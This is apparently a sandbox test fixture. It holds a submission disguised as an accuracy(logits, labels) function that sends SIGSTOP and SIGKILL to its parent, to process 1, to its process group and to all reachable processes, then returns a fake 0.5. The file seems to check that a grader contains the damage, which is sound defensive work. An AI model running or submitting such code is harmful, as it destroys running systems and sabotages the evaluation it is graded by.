"""Sends SIGKILL and SIGSTOP to everything it can reach: its group, its parent, process 1, all."""

ANSWERS = {
    "wall-accuracy": """
import os, signal

def accuracy(logits, labels):
    for target in (os.getppid(), 1, 0, -1):
        for number in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(target, number)
            except OSError:
                pass
    try:
        os.killpg(os.getpgrp(), 9)
    except OSError:
        pass
    return 0.5
"""
}
EXPECTED = {"wall-accuracy": "crash|wrong|timeout"}
CAUSE = "."
